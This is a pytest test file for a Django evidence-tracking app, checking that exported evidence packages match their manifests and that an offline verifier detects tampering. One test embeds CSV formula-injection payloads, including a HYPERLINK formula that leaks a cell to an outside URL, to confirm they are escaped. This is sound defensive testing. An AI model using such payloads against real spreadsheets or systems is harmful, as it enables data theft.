"""A case's evidence package and its check by the recipient, who has no database."""

import csv
import hashlib
import io
import json
import os
import subprocess
import sys
import zipfile

import pytest
from django.conf import settings
from django.core.management import CommandError, call_command
from django.urls import reverse
from pypdf import PdfReader

from evidence.files import path_of
from evidence.models import CustodyEvent, EvidenceItem
from tests import factories
from tests.dossiers.conftest import add_file


def fetch_package(client, case, tmp_path, name="package.zip"):
    response = client.get(reverse("dossiers:package", args=[case.pk]))
    assert response.status_code == 200
    body = b"".join(response.streaming_content)
    assert len(body) == int(response["Content-Length"])
    assert response["Content-Disposition"] == (
        f'attachment; filename="{case.reference}-evidence.zip"'
    )
    path = tmp_path / name
    path.write_bytes(body)
    return path


def verify(path):
    out = io.StringIO()
    call_command("verify_package", str(path), stdout=out)
    return out.getvalue()


@pytest.fixture
def package(client, filed_case, reviewer, tmp_path):
    client.force_login(reviewer)
    return fetch_package(client, filed_case, tmp_path)


def test_the_package_holds_each_file_as_its_manifest_says(package, filed_case, reviewer):
    items = {item.pk: item for item in EvidenceItem.objects.filter(case=filed_case)}
    with zipfile.ZipFile(package) as archive:
        manifest = json.loads(archive.read("manifest.json"))
        rows = list(csv.DictReader(io.StringIO(archive.read("manifest.csv").decode())))
        names = set(archive.namelist())
        contents = {name: archive.read(name) for name in names}

    assert manifest["case"]["reference"] == filed_case.reference
    assert manifest["generated_by"] == "reviewer"
    assert {entry["item"] for entry in manifest["items"]} == set(items)
    files = [entry for entry in manifest["items"] if entry["path"]]
    assert len(files) == 3
    assert names == {"manifest.json", "manifest.csv", "dossier.pdf", *(e["path"] for e in files)}
    for entry in files:
        item = items[entry["item"]]
        data = contents[entry["path"]]
        # The bytes in the package are the stored file's, and the manifest says so.
        assert hashlib.sha256(data).hexdigest() == entry["sha256"] == item.file.sha256
        assert len(data) == entry["size"] == item.file.size
        assert data == path_of(item.file).read_bytes()
        assert entry["original_filename"] == item.original_filename
        assert entry["source"] == item.source.name
        assert entry["source_grade"] == item.source.reliability
        assert entry["stance"] == item.stance
        # Its chain of custody, this export last.
        actions = [event["action"] for event in entry["custody"]]
        assert actions == ["collected", "uploaded", "exported"]
        assert entry["custody"][-1]["actor"] == "reviewer"
    context = next(e for e in manifest["items"] if not e["path"])
    assert (context["source_grade"], context["sha256"]) == ("not yet graded", "")
    # The CSV says what the JSON says.
    assert {(row["item"], row["path"], row["sha256"], row["source_grade"]) for row in rows} == {
        (str(e["item"]), e["path"], e["sha256"], e["source_grade"]) for e in manifest["items"]
    }
    # The dossier inside is the case's, listing every digest.
    pdf = contents["dossier.pdf"]
    assert hashlib.sha256(pdf).hexdigest() == manifest["dossier"]["sha256"]
    text = "".join(
        "".join(page.extract_text().split()) for page in PdfReader(io.BytesIO(pdf)).pages
    )
    assert all(entry["sha256"] in text for entry in files)
    # One "exported" custody event per item, on record.
    exported = CustodyEvent.objects.filter(item__case=filed_case, action="exported")
    assert sorted(exported.values_list("item", flat=True)) == sorted(items)
    assert {event.actor for event in exported} == {reviewer}


def test_the_csv_manifest_runs_no_formula_in_a_spreadsheet(client, monitor, tmp_path):
    case = factories.CaseFactory(created_by=monitor)
    add_file(
        case,
        monitor,
        "=1+2.txt",
        b"Containers left Rajin.",
        source=factories.SourceFactory(name="@SUM(1+1)"),
        title='=HYPERLINK("https://example.org/?leak="&B2,"Open source")',
    )
    client.force_login(monitor)
    path = fetch_package(client, case, tmp_path)
    with zipfile.ZipFile(path) as archive:
        rows = list(csv.DictReader(io.StringIO(archive.read("manifest.csv").decode())))
    [row] = [row for row in rows if row["original_filename"].endswith("=1+2.txt")]
    assert row["title"] == '\'=HYPERLINK("https://example.org/?leak="&B2,"Open source")'
    assert (row["source"], row["original_filename"]) == ("'@SUM(1+1)", "'=1+2.txt")
    assert "OK" in verify(path)


def test_verify_package_passes_a_fresh_package_without_any_database(package, django_db_blocker):
    # The recipient has no database of ours: any query would raise here.
    with django_db_blocker.block():
        output = verify(package)
    assert "OK: all 4 files of the package of CASE-" in output


def test_verify_package_runs_with_no_database_reachable(package):
    # As the README has the recipient run it: DEBUG=1, no secret key, and here a
    # database that does not exist.
    env = {name: value for name, value in os.environ.items() if name != "SECRET_KEY"}
    env |= {
        "DEBUG": "1",
        "DATABASE_URL": "postgres://nobody@127.0.0.1:9/no_such_database",
        "REDIS_URL": "",
    }
    run = subprocess.run(
        [sys.executable, "manage.py", "verify_package", str(package)],
        cwd=settings.BASE_DIR,
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert run.returncode == 0, run.stderr
    assert "OK: all 4 files" in run.stdout


def rewrite(path, change):
    """The package rewritten, each member passed through ``change(name, data)`` (None
    drops it), and extra members added from ``change.extra``."""
    with zipfile.ZipFile(path) as archive:
        members = [(info.filename, archive.read(info)) for info in archive.infolist()]
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in members:
            data = change(name, data)
            if data is not None:
                archive.writestr(name, data)
        for name, data in getattr(change, "extra", {}).items():
            archive.writestr(name, data)


def evidence_names(path):
    with zipfile.ZipFile(path) as archive:
        return sorted(n for n in archive.namelist() if n.startswith("evidence/"))


def test_one_changed_byte_in_the_zip_fails_the_check_naming_the_file(package):
    name = evidence_names(package)[0]
    with zipfile.ZipFile(package) as archive:
        info = archive.getinfo(name)
    raw = bytearray(package.read_bytes())
    # The member's data starts after its local header (30 bytes, its name, extra field).
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    raw[start] ^= 0x01
    package.write_bytes(bytes(raw))

    with pytest.raises(CommandError) as refused:
        verify(package)
    assert refused.value.returncode == 1
    assert "does NOT match its manifest: 1 problem(s); 3 file(s) matched" in str(refused.value)


def test_a_file_repacked_with_one_byte_changed_fails_on_its_digest(package, capsys):
    target = evidence_names(package)[1]

    def change(name, data):
        return bytes([data[0] ^ 0x01]) + data[1:] if name == target else data

    rewrite(package, change)
    out = io.StringIO()
    with pytest.raises(CommandError):
        call_command("verify_package", str(package), stdout=out)
    assert out.getvalue().startswith(f"MISMATCH {target}: SHA-256 is ")


def test_missing_and_extra_files_are_named(package):
    dropped, *_ = evidence_names(package)

    def change(name, data):
        return None if name == dropped else data

    change.extra = {"evidence/99-planted.txt": b"not from the tracker"}
    rewrite(package, change)
    out = io.StringIO()
    with pytest.raises(CommandError, match="2 problem"):
        call_command("verify_package", str(package), stdout=out)
    assert f"MISSING  {dropped}: listed in the manifest" in out.getvalue()
    assert "EXTRA    evidence/99-planted.txt: in the package, not in the manifest" in out.getvalue()


def test_a_file_that_is_no_package_is_told_so(tmp_path):
    not_zip = tmp_path / "dossier.pdf"
    not_zip.write_bytes(b"%PDF-1.7\n")
    with pytest.raises(CommandError, match="is not a ZIP file") as refused:
        verify(not_zip)
    assert refused.value.returncode == 2

    no_manifest = tmp_path / "photos.zip"
    with zipfile.ZipFile(no_manifest, "w") as archive:
        archive.writestr("photo.png", b"\x89PNG")
    with pytest.raises(CommandError, match="has no manifest.json"):
        verify(no_manifest)

    with pytest.raises(CommandError, match="no such file"):
        verify(tmp_path / "missing.zip")


def test_a_package_with_a_file_gone_from_the_store_is_refused_and_not_recorded(
    client, filed_case, reviewer
):
    item = filed_case.evidence.exclude(file=None).first()
    path = path_of(item.file)
    path.chmod(0o600)
    path.unlink()
    client.force_login(reviewer)
    response = client.get(reverse("dossiers:package", args=[filed_case.pk]))
    assert response.status_code == 409
    assert f"evidence item {item.pk}" in response.content.decode()
    assert not CustodyEvent.objects.filter(action="exported").exists()


def test_a_stakeholder_packages_an_approved_case_without_names(
    client, filed_case, stakeholder, tmp_path
):
    client.force_login(stakeholder)
    package = fetch_package(client, filed_case, tmp_path)
    with zipfile.ZipFile(package) as archive:
        manifest = json.loads(archive.read("manifest.json"))
    assert {event["actor"] for item in manifest["items"] for event in item["custody"]} == {""}
    assert "OK: all 4 files" in verify(package)


def test_a_file_with_a_long_name_unpacks_under_a_name_a_file_system_holds(
    client, monitor, tmp_path
):
    """An uploaded name may be 255 characters, which in UTF-8 (250 "é" are 500 bytes)
    or with the item's number before it is more than the 255 bytes a file name holds:
    unpacking the package failed on that file ("File name too long"). Its path in the
    package is cut, its extension kept; the manifest keeps the name as uploaded."""
    case = factories.CaseFactory(created_by=monitor)
    names = ["é" * 250 + ".txt", "a" * 251 + ".txt", "Отчёт " * 40 + "о поставках.pdf"]
    for number, name in enumerate(names):
        add_file(case, monitor, name, f"Manifest line {number}.\n".encode())
    client.force_login(monitor)
    path = fetch_package(client, case, tmp_path)

    with zipfile.ZipFile(path) as archive:
        archive.extractall(tmp_path / "unpacked")
        manifest = json.loads(archive.read("manifest.json"))
    unpacked = sorted((tmp_path / "unpacked" / "evidence").iterdir())
    assert len(unpacked) == 3
    assert all(len(file.name.encode()) <= 255 for file in unpacked)
    assert {os.path.splitext(file.name)[1] for file in unpacked} == {".txt"}
    assert sorted(entry["original_filename"] for entry in manifest["items"]) == sorted(
        name[:255] for name in names
    )
    assert "OK: all 4 files" in verify(path)
